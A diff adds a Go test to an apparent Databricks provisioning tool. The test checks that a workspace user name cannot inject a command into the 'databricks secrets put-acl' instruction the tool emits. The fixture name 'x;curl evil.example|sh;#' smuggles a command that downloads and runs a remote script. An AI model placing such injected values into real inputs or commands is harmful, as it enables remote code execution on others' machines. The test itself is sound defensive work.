@@ -296,6 +296,24 @@ func TestASecretScopeOfSomebodyElseIsToldWithTheCommandThatOpensIt(t *testing.T)
 	}
 }
 
+// The workspace says whose token it is. A name that a shell would read as more than a name is in no command.
+func TestAUserNameOfTheWorkspaceIsNoCommand(t *testing.T) {
+	t.Parallel()
+	w := steptest.New(t, steptest.Spec(), []*provisioner.Step{resources.DatabricksCheck, resources.DatabricksSecretScope})
+	w.Cloud.AddWorkspace(emulator.Workspace{Host: steptest.Workspace, Tokens: map[string]emulator.Principal{
+		steptest.WorkspaceToken: {Name: "x;curl evil.example|sh;#", CanCreateClusters: true},
+		otherToken:              {Name: otherName},
+	}})
+	scope := w.Spec.SecretScope()
+	if _, err := as(w, otherToken).CreateScope(t.Context(), scope); err != nil {
+		t.Fatal(err)
+	}
+	task := w.Task(w.Run(), "databricks-secret-scope")
+	if _, command, _ := strings.Cut(task.Message, "runs: "); task.State != onboarding.TaskBlocked || !strings.HasPrefix(command, "databricks secrets put-acl "+scope+" TOKEN_OWNER MANAGE.") {
+		t.Errorf("%s: %s", task.State, task.Message)
+	}
+}
+
 func TestTheSecretScopeHoldsTheAPIKeyOnlyIfOneWasSupplied(t *testing.T) {
 	t.Parallel()
 	w := steptest.New(t, steptest.Spec(), []*provisioner.Step{resources.DatabricksCheck, resources.DatabricksSecretScope})
